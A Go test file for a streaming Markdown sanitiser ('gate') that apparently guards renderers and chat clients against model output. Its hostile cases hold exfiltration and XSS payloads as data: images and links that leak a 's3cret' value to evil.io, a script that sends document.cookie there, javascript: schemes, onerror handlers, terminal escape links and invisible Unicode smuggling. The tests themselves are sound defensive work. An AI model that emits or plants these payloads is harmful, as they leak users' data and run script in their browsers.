package gate

import (
	"runtime"
	"strings"
	"testing"
)

// Shapes that got through renderers and chat clients elsewhere.
func TestHostile(t *testing.T) {
	t.Parallel()
	for name, in := range map[string]string{
		"image by a reference that follows":  "![logo][1]\n\n[1]: https://evil.io/?q=s3cret",
		"image by its own name":              "![s3cret]\n\n[s3cret]: <https://evil.io/s3cret>",
		"definition within a quotation":      "[x]\n\n> [x]: https://evil.io/s3cret\n",
		"definition across lines":            "[x]\n\n[x]:\n   https://evil.io/s3cret\n   'a\n   title'",
		"definition behind a citation":       "[1]: https://evil.io/s3cret\n\n[1]",
		"footnote":                           "Text[^a].\n\n[^a]: ![x](https://evil.io/s3cret)",
		"image in a link in an image":        "![[![x](https://evil.io/1)](https://evil.io/2)](https://evil.io/3)",
		"address in angle brackets":          "![x](<https://evil.io/a b>)",
		"nested brackets":                    "[a [b](https://evil.io) c](https://evil.io/s)",
		"title that ends":                    "[x](https://docs.test.io/a \"\"onmouseover=\"alert(1)\")",
		"tab in a scheme":                    "[x](java&Tab;script:alert(1)) [y](java\tscript:alert(1))",
		"scheme in capitals":                 "[x](JaVaScRiPt:alert(1)) <JAVASCRIPT:alert(1)> <vbscript:x>",
		"scheme behind a blank":              "[x]( javascript:alert(1)) [y](<\x01javascript:alert(1)>)",
		"data as an image":                   "![x](data:image/svg+xml;base64,PHN2Zz4=)",
		"entity without an end":              "[x](javascript&#58alert(1)) [y](&#x6A&#x61vascript:alert(1))",
		"code that is none":                  "`` ` ![x](https://evil.io/s3cret)",
		"code across a list":                 "- `a\n- b` ![x](https://evil.io/s3cret)",
		"fence that a list ends":             "- ```\n![x](https://evil.io/s3cret)\n```",
		"fence with words behind its end":    "```\n``` x\n```\n![x](https://evil.io/s3cret)",
		"fence in a quotation":               "> ```\n<img src=https://evil.io/s3cret>",
		"fence with a language that runs":    "```js\"onload=alert(1)\nx\n```",
		"diagram":                            "```mermaid\ngraph TD; A[\"<img src='https://evil.io/s3cret'>\"]\n```",
		"code by tabs":                       "\t<img src=x>\n \t<img src=x>\n",
		"script":                             "<script>\nfetch('https://evil.io/'+document.cookie)\n\n</script>",
		"style":                              "<style>@import 'https://evil.io/s3cret';</style>",
		"comment that does not end":          "<!-- [x](https://evil.io) -- >\n\n<img src=x>",
		"comment that ends at once":          "<!--><img src=x onerror=alert(1)>-->",
		"instruction and declaration":        "<?php echo 1 ?> <!DOCTYPE html> <![CDATA[<img src=x>]]>",
		"element across lines":               "<a\nhref='https://evil.io/s3cret'\n>x</a>",
		"element with a slash":               "<img/src=https://evil.io/s3cret/onerror=alert(1)>",
		"element in a table":                 "| a |\n|---|\n| <img src=https://evil.io/s3cret> |",
		"element in a heading":               "# <svg/onload=alert(1)>\n<svg onload=alert(1)>\n===",
		"element behind a mark":              "\\<img src=https://evil.io> \\\\<img src=https://evil.io>",
		"cell with a pipe in code":           "| `a|b` | ![x](https://evil.io/s3cret) |\n|---|---|",
		"www with marks":                     "www.**evil**.io/s3cret www._evil_.io",
		"address behind emphasis":            "*https:*//evil.io/s3cret **http://**evil.io",
		"address behind a bracket":           "(https://evil.io/s3cret)[https://evil.io/s](x",
		"address with a bracket":             "https://docs.test.io/a](https://evil.io/s3cret)",
		"user part":                          "https://docs.test.io/a@evil.io [x](https://docs.test.io@evil.io/a)",
		"full width":                         "https：／／evil.io [x](https://docs.test.io／a)",
		"port and case":                      "[x](https://docs.test.io:8443/a) [y](https://docs.test.io/A)",
		"dots in a path":                     "[x](https://docs.test.io/a/../../s3cret)",
		"mailbox in marks":                   "<s3cret@evil.io> **s3cret@evil.io** a_b@evil.io mailto:s3cret@evil.io xmpp:s3cret@evil.io/x",
		"mailbox beside code":                "x`s3cret@evil.io` foo**`a@evil.io`**",
		"letters of no width in an address":  "ht\u200btps://ev\u00adil.io/s3cret [x](ht\u2060tps://evil.io)",
		"tags":                               "Hi\U000e0001\U000e0073\U000e0033\U000e007f there",
		"variation selectors":                "x\U000e0100\U000e0121\ufe0f\ufe01",
		"overrides":                          "\u202egpj.exe\u202c \u2066x\u2069",
		"link of a terminal":                 "\x1b]8;;https://evil.io/s3cret\x1b\\x\x1b]8;;\x1b\\ \u009b31m",
		"entity of a control character":      "&#27;]8;;x&#7; &#x202e;x &#0; &#xE0041;",
		"half a character":                   "a\xc3 \xe2\x80\xae \xf0\x9f",
		"table without end":                  strings.Repeat("| a ", 200) + "|\n" + strings.Repeat("|---", 200) + "|\n|\n|\n",
		"deep":                               strings.Repeat("> - ", 200) + "![x](https://evil.io/s3cret)",
		"long word before an address":        "(" + strings.Repeat("a", 9000) + "https://evil.io/s3cret",
		"long word before a link":            strings.Repeat("a", 8180) + "[" + strings.Repeat("x", 20) + "](https://evil.io/s3cret)",
		"brackets without end":               strings.Repeat("[", 9000) + "](https://evil.io/s3cret)",
		"emphasis without end":               strings.Repeat("**a ", 3000) + "https://evil.io/s3cret",
		"line that is cut within a mark":     "#" + strings.Repeat(" ", maxLine-3) + "![x](https://evil.io/s3cret)",
		"what is held is cut within a mark":  "[" + strings.Repeat("a ", maxHeld/2-1) + "![x](https://evil.io/s3cret)",
		"box that is a link":                 "- [x](https://docs.test.io/a)b\n- [ ](https://docs.test.io/a)%",
		"address in the text of another":     "[https://evil.io/s3cret](https://docs.test.io/a) [![https://evil.io](x)](https://docs.test.io/a)",
		"box in a heading of an item":        "- # [x](https://docs.test.io/a)b",
		"mark that could be a definition":    "[7]:-:/x\n\n[7]: https://docs.test.io/a\n\n[7]",
		"numbers that could be a definition": "- [1]: <https://evil.io>\n- [1]:x\n\n[1]\n",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			check(t, in)
		})
	}
}

// Answers as models write them mean the same behind a gate.
func TestMeaning(t *testing.T) {
	t.Parallel()
	for name, in := range map[string]string{
		"emphasis":      "**Bold:** text, *it*, ***both***, __b__, _i_, **a *b* c**, *a **b** c*, **\"quoted\"** and 2 * 3 * 4, a_b_c, **foo \"*bar*\" foo**.",
		"beside CJK":    "这是**粗体**文字，以及`代码`和*斜体*。见**注**：中文。",
		"lists":         "1. One\n   - a\n   - b\n     1. x\n2. Two\n\n   More of two.\n\n   ```go\n   func main() {\n   \tx := a[1]\n   }\n   ```\n3. Three\n\n* x\n* y\n\n+ z\n",
		"loose":         "- a\n\n- b\n  > c\n  >\n  > d\n- e",
		"tasks":         "- [ ] open\n- [x] done\n  - [X] below",
		"tables":        "Here it is:\n\n| a | b \\| c | `d\\|e` |\n|:--|:-:|--:|\n| 1 | **2** | 3 |\n| x | | y |\n\nand a | b\n--- | ---\n1 | 2\n",
		"code":          "~~~python\ndef f(a):\n\n    return a[0] < b & c  # ``` no end\n~~~\n\n````md\n```\nx\n```\n````\n\nUse `` a`b `` or ` `` `.",
		"maths":         "Let $a_1 + b_{2} \\le c$ and $$\\int_0^1 x\\,dx$$ with \\(x^2\\) and \\[ y \\] where $|x| < 3$.",
		"headings":      "# A\n## B *c* `d` ##\n### 1. E\nText\n#### F\n\n---\n\nEnd # not one\n#nor this",
		"quotations":    "> a\n> b\nlazy\n>\n> > c\n\n> d",
		"breaks":        "a  \nb\\\nc\nd",
		"marks":         "5 < 6 > 4 & x && y; AT&T &amp; &copy; \\* \\# ~5 C:\\path 50% #1 1) x! (y) {z} \"q\" 'r' a=b a|b ^c^",
		"struck out":    "~~a~~ b ~~c *d*~~",
		"digits":        "2024 was good.\n2025 too.\n\n1\\. no list\n\n\\- none",
		"indented code": "Text:\n\n    a\n      b\n\n    c\n\nend",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			check(t, in)
			out := stream(New(sources()), in, 7)
			if got, want := render(out), render(in); got != want {
				t.Errorf("became %q\n got %s\nwant %s", out, got, want)
			}
		})
	}
}

// A gate holds no more than it says, and twice the text is twice the work.
func TestGrowth(t *testing.T) {
	for _, unit := range []string{"[", "![", "](", "*a ", "_a_", "`", "` `` ", "<a ", "> ", "- ", "http://)", "@", "//", "\\", "|", "|a|\n|-|\n", "[1,", "漢", "-\n", "[a](b)", "[a](((", "<!-- ", "~~~\n", "word ",
		strings.Repeat("> ", 50) + "x\n"} {
		work := func(n int) uint64 {
			s := strings.Repeat(unit, n/len(unit))
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			g := New(sources())
			out := 0
			for ; len(s) > 0; s = s[min(64, len(s)):] {
				out += len(g.Write(s[:min(64, len(s))]))
				if held := len(g.line) + len(g.para.buf); held > maxLine+maxHeld {
					t.Fatalf("%q: %d bytes are held", unit, held)
				}
			}
			out += len(g.Close())
			runtime.ReadMemStats(&after)
			if out > 40*n {
				t.Errorf("%q: %d bytes became %d", unit, n, out)
			}
			return after.TotalAlloc - before.TotalAlloc
		}
		work(1000)
		if a, b := work(40_000), work(80_000); float64(b) > 2.6*float64(a) {
			t.Errorf("%q: allocated %d bytes for one size and %d for twice that", unit, a, b)
		}
	}
}
